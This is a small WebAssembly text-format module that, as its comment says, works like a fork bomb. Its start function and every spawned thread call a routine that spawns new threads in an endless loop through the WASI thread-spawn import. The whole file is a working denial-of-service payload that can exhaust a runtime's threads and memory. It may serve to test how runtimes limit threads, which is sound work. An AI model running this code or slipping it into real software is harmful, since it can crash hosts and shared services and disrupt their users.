;; Starts threads that start threads and then loop, for ever, as a fork bomb would.
(module
  (import "env" "memory" (memory 1 1 shared))
  (import "wasi" "thread-spawn" (func $spawn (param i32) (result i32)))
  (export "memory" (memory 0))
  (func $storm
    (loop $again
      (drop (call $spawn (i32.const 0)))
      (br $again)))
  (func (export "wasi_thread_start") (param i32 i32) (call $storm))
  (func (export "_start") (call $storm)))
